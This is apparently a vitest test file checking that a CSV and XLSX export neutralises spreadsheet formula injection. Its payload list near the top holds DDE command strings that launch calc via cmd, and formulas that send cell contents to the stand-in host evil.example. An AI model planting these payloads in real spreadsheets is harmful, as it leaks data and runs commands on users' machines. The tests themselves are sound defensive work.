import { unzipSync, strFromU8 } from 'fflate';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { toCsvText } from './csv-text.ts';
import { toXlsxBytes } from './xlsx-bytes.ts';

/** Formulas, links and commands that have worked in one spreadsheet or another; 24 of them. */
const payloads = [
  '=1+1',
  "=cmd|'/C calc'!A0",
  '=HYPERLINK("http://evil.example/?x="&A1,"点此")',
  '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
  '=WEBSERVICE("http://evil.example/"&A1)',
  '=DDE("cmd";"/C calc";"x")',
  '+1+1',
  "+cmd|'/C calc'!A0",
  '-1+1',
  "-2+3+cmd|'/C calc'!A0",
  '@SUM(1+1)',
  '@cmd',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\r\n=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1+1)',
  '=1+1","=2+2',
  '="a"&CHAR(10)&"b"',
  "=1+1'",
  '=A1;=B1',
] as const;

const table = [['姓名', '籍贯'], ...payloads.map((payload) => [payload, '巴县'])];

function readParts(bytes: Uint8Array): Record<string, string> {
  return Object.fromEntries(Object.entries(unzipSync(bytes)).map(([name, part]) => [name, strFromU8(part)]));
}

describe('a table taken away', () => {
  it('has no cell in CSV that a spreadsheet could take for a formula', () => {
    expect(payloads).toHaveLength(24);
    const { data, errors } = Papa.parse<string[]>(toCsvText(table).replace('\uFEFF', ''), {
      skipEmptyLines: true,
    });
    expect(errors).toEqual([]);
    expect(data).toHaveLength(payloads.length + 1);
    for (const [index, payload] of payloads.entries()) {
      const [cell] = data[index + 1] ?? [];
      expect(cell).toBe(`'${payload}`);
    }
  });

  it('keeps to RFC 4180: quotes doubled, lines ended by CR LF, commas and line breaks inside quotes', () => {
    expect(toCsvText([['a"b', 'c,d', 'e\nf', '', '普通']])).toBe('\uFEFF"a""b","c,d","e\nf",,普通\r\n');
  });

  it('has no formula cell in XLSX: every cell is text, and the text is what was written', async () => {
    const parts = readParts(await toXlsxBytes('线索', table));
    const sheet = parts['xl/worksheets/sheet1.xml'] ?? '';
    expect(sheet).toContain('<row');
    expect(sheet).not.toMatch(/<f[\s>/]/u);
    const types = [...sheet.matchAll(/<c [^>]*?\bt="(\w+)"/gu)].map(([, type]) => type);
    const cells = [...sheet.matchAll(/<c\b/gu)];
    expect(cells).toHaveLength(table.length * 2);
    expect(types).toHaveLength(cells.length);
    expect(new Set(types)).toEqual(new Set([types[0]]));
    expect(['s', 'inlineStr']).toContain(types[0]);
    expect(Object.keys(parts).filter((name) => /externalLink|connections|vba/iu.test(name))).toEqual([]);
    const written = Object.values(parts).join('\n');
    expect(written).toContain('HYPERLINK(');
  });

  it('opens although somebody sent characters that XML has no place for', async () => {
    const parts = readParts(await toXlsxBytes('线索', [['姓名'], ['甲\u0001乙\u{FFFF}丙𠮷']]));
    const written = Object.values(parts).join('\n');
    expect(written).toContain('甲乙丙𠮷');
    expect(written).not.toContain('\u0001');
  });
});
